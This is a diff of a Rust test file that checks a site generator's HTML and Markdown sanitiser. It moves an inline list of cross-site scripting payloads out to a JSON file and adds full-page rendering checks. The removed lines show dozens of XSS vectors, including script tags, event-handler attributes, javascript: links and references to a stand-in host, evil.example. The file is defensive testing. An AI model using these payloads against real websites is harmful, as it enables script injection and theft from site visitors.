@@ -6,81 +6,58 @@ use scraper::{ElementRef, Html};
 
 use crate::draft::Draft;
 
-const ATTACKS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=\"x\"\tonerror\n=alert(1)>",
-    "<img/src/onerror=alert(1)>",
-    "<img src=`x`onerror=alert(1)>",
-    "<img src=https://evil.example/t.png>",
-    "<img srcset=\"https://evil.example/t.png 2x\">",
-    "<img src=\"&#104;ttps://evil.example/t.png\">",
-    "<img src=\"\\\\evil.example\\t.png\">",
-    "<img src=\"ht\ntps://evil.example/t.png\">",
-    "![x](//evil.example/t.png)",
-    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<template><script>alert(1)</script></template>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<object data=\"javascript:alert(1)\"></object><embed src=//evil.example>",
-    "<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>",
-    "<input type=image src=//evil.example/t.png onfocus=alert(1) autofocus>",
-    "<input type=text name=pass>",
-    "<textarea autofocus onfocus=alert(1)></textarea><select><option>x</select>",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href=\" &#14; javascript:alert(1)\">x</a>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
-    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
-    "<a href=\"vbscript:x\">x</a><a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-    "<a href=\"https://fine.example\" target=_blank ping=//evil.example onclick=alert(1) style=x>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x][y]\n\n[y]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "[x](JAVASCRIPT&#58;alert(1))",
-    "<style>@import '//evil.example';</style>",
-    "<p style=\"background:url(//evil.example)\">x</p>",
-    "<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content=0>",
-    "<body onload=alert(1)><html manifest=//evil.example>",
-    "<video poster=//evil.example src=//evil.example><source src=//evil.example></video><audio src=//evil.example>",
-    "<table background=//evil.example><td background=//evil.example>x</table>",
-    "<div class=\"help number\" id=help>x</div>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<x onclick=alert(1)>x</x><p/onclick=alert(1)>x",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
-    "<title><img src=x onerror=alert(1)></title><plaintext><xmp><script>alert(1)</script>",
-    "`<script>`\n\n    <script>alert(1)</script>\n",
-    "\"><script>alert(1)</script>",
-    "## x {onclick=alert(1) style=x .help #help}",
-    "\u{0}<scr\u{0}ipt>alert(1)</script>",
-];
+/// The attacks; `tests/web/attacks.test.mjs` shows the same ones to a browser.
+fn attacks() -> Vec<String> {
+    serde_json::from_str(include_str!("../vectors/xss.json")).unwrap()
+}
+
+/// What becomes of a page's text in a practice: its HTML, or nothing where the page is refused with a mistake.
+fn rendered(text: &str) -> Option<String> {
+    let site = Draft::empty()
+        .file("themes/default/open.html", "<html><body><main>{{ content|safe }}</main></body></html>")
+        .file("content/library/x.md", format!("+++\ntitle = \"X\"\npublic = true\n+++\n{text}"));
+    let file =
+        site.open().ok()?.into_iter().find(|file| file.path == "library/x/index.html").expect("the page is there");
+    Some(String::from_utf8(file.bytes).unwrap())
+}
 
 #[test]
 fn no_attack_survives_the_sanitiser() {
-    for attack in ATTACKS {
+    let mut shown = 0;
+    for attack in attacks() {
         for text in [
-            (*attack).to_owned(),
+            attack.clone(),
             format!("<div>\n{attack}\n</div>"),
             format!("- a {attack} b"),
             format!("| a |\n|--|\n| {attack} |"),
+            format!("{attack} {{{{ practice.name }}}} {attack}"),
+            format!("> - {attack}\n\n[^1]\n\n[^1]: {attack}"),
         ] {
             harmless(&commonmark(&text));
+            if let Some(html) = rendered(&text) {
+                harmless_page(&html);
+                shown += 1;
+            }
         }
     }
+    assert!(shown > 150, "only {shown} were no mistake");
+}
+
+/// Fails if anything in the page is harmful, or stands where the theme did not put it.
+fn harmless_page(html: &str) {
+    let parsed = Html::parse_document(html);
+    let body = parsed.select(&scraper::Selector::parse("body").unwrap()).next().unwrap();
+    let inside: Vec<_> = body.child_elements().collect();
+    assert!(matches!(inside.as_slice(), [main] if main.value().name() == "main"), "{html}");
+    harmless_below(body, html);
 }
 
 /// Fails if the HTML, as a browser parses it, holds anything that a page must not.
 fn harmless(html: &str) {
+    harmless_below(Html::parse_fragment(html).root_element(), html);
+}
+
+fn harmless_below(root: ElementRef<'_>, html: &str) {
     const REFUSED: [&str; 25] = [
         "script",
         "style",
@@ -108,8 +85,7 @@ fn harmless(html: &str) {
         "xmp",
         "plaintext",
     ];
-    let parsed = Html::parse_fragment(html);
-    for element in parsed.root_element().descendants().filter_map(ElementRef::wrap) {
+    for element in root.descendants().filter_map(ElementRef::wrap) {
         assert!(!REFUSED.contains(&element.value().name()), "{html}");
         for (name, value) in element.value().attrs() {
             assert!(!name.starts_with("on") && !name.contains([':', '<']), "{html}");
@@ -137,8 +113,9 @@ proptest! {
     fn any_text_renders_without_a_script(text in "(?s).{0,200}", tags in "[<>/a-z =\"'&;#\\-!\\[\\]()*`|{}%\n]{0,200}") {
         for text in [&text, &tags] {
             harmless(&commonmark(text));
-            let site = Draft::empty().file("content/library/x.md", format!("# X\n\n{text}"));
-            drop(site.rendered("content/library/x.md"));
+            if let Some(html) = rendered(text) {
+                harmless_page(&html);
+            }
         }
     }
 }
